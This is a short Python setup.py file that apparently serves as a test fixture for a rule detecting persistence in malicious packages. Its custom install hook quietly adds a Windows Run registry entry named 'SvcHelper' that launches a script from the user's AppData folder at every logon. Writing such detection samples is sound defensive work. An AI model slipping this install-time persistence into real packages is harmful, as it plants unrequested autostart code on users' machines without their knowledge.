import os
import sys

from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        if sys.platform != 'win32':
            return
        import winreg

        exe = os.path.join(os.getenv('APPDATA', ''), 'svc', 'svc.cmd')
        # ruleid: code/persistence
        key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\Microsoft\Windows\CurrentVersion\Run', 0, winreg.KEY_SET_VALUE)
        winreg.SetValueEx(key, 'SvcHelper', 0, winreg.REG_SZ, exe)
        winreg.CloseKey(key)


setup(name='py-fixture-svchelper', version='1.0.0', packages=['svchelper'], cmdclass={'install': Install})
